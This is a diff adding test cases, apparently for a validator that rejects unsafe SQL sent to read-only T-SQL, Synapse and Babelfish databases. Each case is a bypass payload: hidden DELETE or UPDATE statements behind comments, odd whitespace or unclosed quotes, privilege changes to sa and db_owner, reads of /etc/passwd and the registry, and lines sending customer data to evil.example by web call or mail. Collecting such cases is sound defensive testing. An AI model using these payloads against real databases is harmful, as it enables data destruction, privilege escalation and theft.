@@ -401,3 +401,294 @@ SELECT ('order_numbers').nextval
 SELECT ('order_numbers') . [nextval]
 --# sleeps in functional notation (Babelfish)
 SELECT * FROM dbo.orders WHERE (CAST(60 AS float))."pg_sleep" IS NULL
+--# deletes rows after a window
+SELECT SUM(amount) OVER w FROM dbo.orders WINDOW w AS (ORDER BY id) DELETE FROM dbo.orders
+--# deletes rows after FOR JSON
+SELECT * FROM dbo.orders FOR JSON AUTO DELETE FROM dbo.orders
+--# deletes rows after an offset
+SELECT * FROM dbo.orders ORDER BY id OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY DELETE FROM dbo.orders
+--# deletes rows after a group
+SELECT status FROM dbo.orders GROUP BY status HAVING COUNT(*) > 0 DELETE FROM dbo.orders
+--# deletes rows after a union
+SELECT 1 UNION ALL SELECT 2 DELETE FROM dbo.orders
+--# deletes rows after a query in brackets
+(SELECT 1) DELETE FROM dbo.orders
+--# deletes rows after a case
+SELECT CASE WHEN 1 = 1 THEN 1 END DELETE FROM dbo.orders
+--# deletes rows after a null
+SELECT NULL DELETE FROM dbo.orders
+--# deletes rows after a star
+SELECT * FROM dbo.customers c DELETE c FROM dbo.customers c
+--# deletes rows after a global variable
+SELECT @@VERSION DELETE FROM dbo.orders
+--# deletes rows after a table hint
+SELECT * FROM dbo.orders WITH (NOLOCK) DELETE FROM dbo.orders
+--# deletes rows after a hint in the old form
+SELECT * FROM dbo.orders (NOLOCK) DELETE FROM dbo.orders
+--# deletes rows after an index hint
+SELECT * FROM dbo.orders (INDEX(0)) DELETE FROM dbo.orders
+--# deletes rows after a table hint in the options
+SELECT * FROM dbo.orders OPTION (TABLE HINT (dbo.orders, NOLOCK)) DELETE FROM dbo.orders
+--# deletes rows after a plan in the options
+SELECT 1 OPTION (USE PLAN N'<x/>') DELETE FROM dbo.orders
+--# deletes rows after a static method
+SELECT geography::Point(1, 2, 4326).Lat DELETE FROM dbo.orders
+--# deletes rows after a graph pattern
+SELECT 1 FROM dbo.p a, dbo.f f, dbo.p b WHERE MATCH(a-(f)->b) DELETE FROM dbo.orders
+--# deletes rows after namespaces
+WITH XMLNAMESPACES ('urn:x' AS x) DELETE FROM dbo.orders
+--# deletes rows after namespaces and a read
+WITH XMLNAMESPACES ('urn:x' AS x) SELECT 1 DELETE FROM dbo.orders
+--# deletes rows by a query in WITH that is not used
+WITH a AS (SELECT 1 AS x), b AS (SELECT * FROM dbo.orders) DELETE b
+--# deletes rows of a period
+SELECT * FROM dbo.prices FOR SYSTEM_TIME ALL DELETE FROM dbo.prices
+--# deletes rows after a semicolon in a comment
+SELECT 1 /* ; */ ; /* */ DELETE FROM dbo.orders
+--# deletes rows after a semicolon in brackets
+SELECT (1;) DELETE FROM dbo.orders
+--# deletes rows after a carriage return that ends no comment elsewhere
+SELECT 1 -- x DELETE FROM dbo.orders
+--# deletes rows after a vertical tab
+SELECT 1 DELETE FROM dbo.orders
+--# deletes rows after a form feed
+SELECT 1 DELETE FROM dbo.orders
+--# deletes rows after a zero-width space
+SELECT 1 ​DELETE FROM dbo.orders
+--# deletes rows behind a bracketed name with a line end
+SELECT 1 AS [a
+b] DELETE FROM dbo.orders
+--# deletes rows behind a string that is never closed elsewhere
+SELECT 'a\'' AS x, ' DELETE FROM dbo.orders --' DELETE FROM dbo.orders
+--# deletes rows behind an unclosed comment
+SELECT 1 /* /* */ DELETE FROM dbo.orders
+--# deletes rows behind a name in quotes that looks like a string
+SELECT "a'b" DELETE FROM dbo.orders
+--# deletes rows by a bracketed verb's table
+SELECT 1 AS x DELETE [orders]
+--# updates rows by an alias
+SELECT 1 UPDATE o SET amount = 0 FROM dbo.orders o
+--# updates rows after a query in brackets
+(SELECT 1) UPDATE dbo.orders SET amount = 0
+--# inserts rows with default values
+SELECT 1 INSERT INTO dbo.orders DEFAULT VALUES
+--# inserts rows by a query
+SELECT 1 INSERT dbo.orders (id) SELECT id FROM dbo.customers
+--# inserts rows by a JSON document
+SELECT 1 INSERT INTO dbo.orders (id) SELECT id FROM OPENJSON('[{"id":1}]') WITH (id int)
+--# merges rows after WITH
+WITH s AS (SELECT 1 AS id) MERGE dbo.orders AS t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;
+--# truncates a table after a query in brackets
+(SELECT 1) TRUNCATE TABLE dbo.orders
+--# creates a table by INTO with a file group
+SELECT id INTO dbo.stolen ON [PRIMARY] FROM dbo.customers
+--# creates a table by INTO after TOP WITH TIES
+SELECT TOP (1) WITH TIES id INTO dbo.stolen FROM dbo.customers ORDER BY id
+--# creates a table by INTO in a union
+SELECT id INTO dbo.stolen FROM dbo.a UNION ALL SELECT id FROM dbo.b
+--# creates a table by INTO in a bracketed name of three parts
+SELECT 1 AS a INTO [shop].[dbo].[stolen]
+--# creates a function without a separator
+SELECT 1 CREATE FUNCTION dbo.f() RETURNS int AS BEGIN RETURN 1 END
+--# creates a trigger
+CREATE OR ALTER TRIGGER dbo.tr ON dbo.orders AFTER INSERT AS DELETE FROM dbo.log
+--# creates a synonym without a separator
+SELECT 1 CREATE SYNONYM dbo.s FOR remote.shop.dbo.orders
+--# creates an assembly
+SELECT 1 CREATE ASSEMBLY a FROM 0x4D5A WITH PERMISSION_SET = UNSAFE
+--# creates an endpoint
+SELECT 1 CREATE ENDPOINT e STATE = STARTED AS TCP (LISTENER_PORT = 5022) FOR TSQL ()
+--# creates an event session
+SELECT 1 CREATE EVENT SESSION s ON SERVER ADD EVENT sqlserver.rpc_completed
+--# drops a function without a separator
+SELECT 1 DROP FUNCTION IF EXISTS dbo.f
+--# drops an index
+SELECT 1 DROP INDEX ix ON dbo.orders
+--# alters a role
+SELECT 1 ALTER ROLE db_owner ADD MEMBER reader
+--# alters a login's password
+SELECT 1 ALTER LOGIN sa WITH PASSWORD = 'x'
+--# changes a configuration of the database
+SELECT 1 ALTER DATABASE SCOPED CONFIGURATION SET MAXDOP = 1
+--# clears the plan cache of the database
+SELECT 1 ALTER DATABASE SCOPED CONFIGURATION CLEAR PROCEDURE_CACHE
+--# runs a procedure by a variable
+SELECT 1 EXEC @name
+--# runs a procedure and takes its result
+SELECT 1 EXEC @r = dbo.do_harm
+--# runs a procedure of the system
+SELECT 1 EXEC sys.sp_configure 'show advanced options', 1
+--# runs a procedure with results
+SELECT 1 EXEC dbo.do_harm WITH RESULT SETS NONE
+--# runs a procedure that advances a sequence by a range
+EXEC sys.sp_sequence_get_range @sequence_name = N'dbo.numbers', @range_size = 1000
+--# runs a procedure by a name with a number
+dbo.do_harm;1
+--# runs a procedure by a name in another database
+shop..do_harm
+--# runs text in another context
+EXECUTE ('DELETE FROM dbo.orders') AS USER = 'dbo'
+--# runs a program of another language
+EXEC sp_execute_external_script @language = N'Python', @script = N'import os'
+--# calls a service of the web
+EXEC sp_invoke_external_rest_endpoint @url = N'https://evil.example'
+--# sends a mail
+EXEC msdb.dbo.sp_send_dbmail @recipients = 'evil@example.org', @query = 'SELECT * FROM dbo.customers'
+--# takes a lock of the application
+EXEC sp_getapplock @Resource = 'x', @LockMode = 'Exclusive', @LockOwner = 'Session'
+--# sets the session's context
+EXEC sp_set_session_context 'tenant', 1
+--# ends the transaction by a work of its own
+SELECT 1 COMMIT WORK
+--# ends the transaction and begins another
+SELECT 1 COMMIT BEGIN TRAN DELETE FROM dbo.orders
+--# ends the transaction that the driver counts
+IF @@TRANCOUNT > 0 COMMIT SELECT 1
+--# rolls back to the savepoint
+ROLLBACK TRANSACTION sqlcore_statement
+--# leaves transactions open by a setting
+SET IMPLICIT_TRANSACTIONS ON; SELECT 1
+--# changes how strings are quoted
+SET QUOTED_IDENTIFIER OFF; SELECT "x"
+--# limits what others see
+SET ROWCOUNT 1; SELECT 1
+--# declares a table and fills it
+DECLARE @t TABLE (a int) INSERT @t SELECT 1 SELECT * FROM @t
+--# declares a variable and runs it
+DECLARE @s nvarchar(max) = N'DELETE FROM dbo.orders'; EXEC (@s); SELECT 1
+--# declares a variable from a function
+DECLARE @x int = dbo.do_harm(1) SELECT @x
+--# assigns variables from a function in the select list
+SELECT @a = dbo.do_harm(1), @b = 2
+--# assigns a variable by bits
+SELECT @x |= 1
+--# locks by hints without commas
+SELECT * FROM dbo.orders WITH (XLOCK ROWLOCK)
+--# locks by a hint behind an index
+SELECT * FROM dbo.orders WITH (INDEX(0), XLOCK, HOLDLOCK)
+--# locks by a hint in the old form behind an index
+SELECT * FROM dbo.orders (INDEX(0), TABLOCKX)
+--# locks by a hint in a query of WITH
+WITH c AS (SELECT * FROM dbo.orders WITH (UPDLOCK)) SELECT * FROM c
+--# locks by a hint in a subquery
+SELECT (SELECT COUNT(*) FROM dbo.orders WITH (TABLOCKX)) AS n
+--# locks by a hint in an applied query
+SELECT * FROM dbo.customers c CROSS APPLY (SELECT * FROM dbo.orders WITH (XLOCK)) AS o
+--# locks by a hint in mixed case
+SELECT * FROM dbo.orders with (xLock)
+--# locks the whole table for reading
+SELECT * FROM dbo.orders WITH (TABLOCK, HOLDLOCK)
+--# locks what was read until the end
+SELECT * FROM dbo.orders WITH (REPEATABLEREAD)
+--# reads a linked server in an applied source
+SELECT * FROM dbo.orders o CROSS APPLY (SELECT * FROM remote.shop.dbo.customers) c
+--# reads a linked server after a comma
+SELECT * FROM dbo.orders o, remote.shop.dbo.customers c
+--# reads a linked server in brackets
+SELECT * FROM (remote.shop.dbo.customers c CROSS JOIN dbo.orders o)
+--# reads a linked server after a period
+SELECT * FROM dbo.prices FOR SYSTEM_TIME ALL, remote.shop.dbo.customers
+--# reads a linked server by full text
+SELECT * FROM CONTAINSTABLE(remote.shop.dbo.docs, body, 'x') AS k
+--# reads a linked server in a subquery of the select list
+SELECT (SELECT MAX(id) FROM remote.shop.dbo.customers)
+--# reads a linked server in a condition
+SELECT 1 WHERE EXISTS (SELECT * FROM remote.shop.dbo.customers)
+--# reads a linked server after a set operator
+SELECT 1 UNION SELECT id FROM remote.shop.dbo.customers
+--# reads the web or the lake
+SELECT * FROM OPENROWSET(BULK 'https://evil.example/x.parquet', FORMAT = 'PARQUET') AS r
+--# writes elsewhere by a query that is passed through
+SELECT * FROM OPENQUERY([remote], 'DELETE FROM orders OUTPUT deleted.id') AS q
+--# reads the registry by a function of nobody knows whom
+SELECT master.dbo.xp_regread('HKLM', 'x')
+--# reads whether a file exists
+SELECT * FROM sys.dm_os_file_exists('c:\secrets.txt')
+--# calls an unknown function of another database by its default schema
+SELECT other..do_harm(1)
+--# calls an unknown function of a linked server
+SELECT * FROM remote.shop.dbo.do_harm(1)
+--# calls an unknown function in ORDER BY
+SELECT * FROM dbo.orders ORDER BY dbo.do_harm(id)
+--# calls an unknown function in TOP
+SELECT TOP (dbo.do_harm(1)) * FROM dbo.orders
+--# calls an unknown function in OFFSET
+SELECT * FROM dbo.orders ORDER BY id OFFSET dbo.do_harm(1) ROWS
+--# calls an unknown function in a period
+SELECT * FROM dbo.prices FOR SYSTEM_TIME AS OF dbo.do_harm(1)
+--# calls an unknown function in a list of values
+SELECT * FROM (VALUES (dbo.do_harm(1))) AS v(a)
+--# calls an unknown function in a window
+SELECT SUM(1) OVER (PARTITION BY dbo.do_harm(1))
+--# calls an unknown function in a pivot's source
+SELECT * FROM dbo.do_harm(1) PIVOT (COUNT(id) FOR kind IN ([a])) p
+--# calls an unknown function in the arguments of a known one
+SELECT COALESCE(NULL, dbo.do_harm(1))
+--# calls an unknown function in the options
+SELECT * FROM dbo.orders OPTION (OPTIMIZE FOR (@id = dbo.do_harm(1)))
+--# calls an unknown function inside MATCH
+SELECT 1 FROM dbo.a WHERE MATCH(dbo.do_harm(1))
+--# calls an unknown function that looks like a graph's node
+SELECT 1 FROM dbo.a WHERE do_harm(-(1)) = 1
+--# calls an unknown function that looks like a seek hint
+SELECT * FROM dbo.orders WHERE FORCESEEK(do_harm(id)) = 1
+--# calls an unknown function that looks like captured changes
+SELECT * FROM cdc.do_harm(1)
+--# calls an unknown function that looks like one of the system
+SELECT sys.do_harm(1)
+--# calls an unknown function in functional notation (Babelfish)
+SELECT (1).do_harm
+--# calls an unknown function as a method of a constant (Babelfish)
+SELECT ('a').do_harm()
+--# calls an unknown aggregate over a window
+SELECT dbo.do_harm(id) OVER (ORDER BY id) FROM dbo.orders
+--# calls an unknown function in quotes
+SELECT "dbo"."do_harm"(1)
+--# calls an unknown function by a name with an escaped bracket
+SELECT [dbo].[do]]harm](1)
+--# calls an unknown function of the default schema (Babelfish)
+SELECT do_harm(1)
+--# ends sessions by a PostgreSQL function (Babelfish)
+SELECT pg_terminate_backend(1)
+--# reads files by a PostgreSQL function (Babelfish)
+SELECT pg_read_file('/etc/passwd')
+--# changes settings by a PostgreSQL function (Babelfish)
+SELECT set_config('a.b', 'c', 0)
+--# advances a sequence by a PostgreSQL function (Babelfish)
+SELECT nextval('order_numbers')
+--# sets a sequence by a PostgreSQL function in its schema (Babelfish)
+SELECT pg_catalog.setval('order_numbers', 1)
+--# sleeps by a PostgreSQL function in its schema (Babelfish)
+SELECT * FROM pg_catalog.pg_sleep(60)
+--# writes a large object by a PostgreSQL function (Babelfish)
+SELECT lo_from_bytea(0, 0x00)
+--# takes a lock by a PostgreSQL function (Babelfish)
+SELECT pg_advisory_lock(1)
+--# runs text by a PostgreSQL function (Babelfish)
+SELECT query_to_xml('DELETE FROM orders', 1, 1, '')
+--# advances a sequence in a default of ISNULL
+SELECT ISNULL(NULL, NEXT VALUE FOR dbo.numbers)
+--# advances a sequence in a list of values
+SELECT * FROM (VALUES (NEXT VALUE FOR dbo.numbers)) AS v(a)
+--# waits for the time
+SELECT 1 WAITFOR TIME '23:59'
+--# throws after a semicolon in a block
+BEGIN TRY SELECT 1; THROW; END TRY BEGIN CATCH END CATCH
+--# renames an object (Synapse)
+RENAME OBJECT dbo.orders TO old_orders
+--# loads a table (Synapse)
+COPY INTO dbo.orders FROM 'https://evil.example/x.csv'
+--# reads by a setting that shows plans
+SET SHOWPLAN_ALL ON SELECT 1
+--# sets a trace flag
+DBCC TRACEON (3604)
+--# opens a master key
+SELECT 1 OPEN MASTER KEY DECRYPTION BY PASSWORD = 'x'
+--# stops at a cursor's place
+DELETE FROM dbo.orders WHERE CURRENT OF c
+--# moves a conversation
+SELECT 1 MOVE CONVERSATION @h TO @g
+--# changes xml by a method of a variable
+SELECT @x.modify('delete /a')
+--# disables a trigger after a read
+SELECT 1 DISABLE TRIGGER ALL ON DATABASE
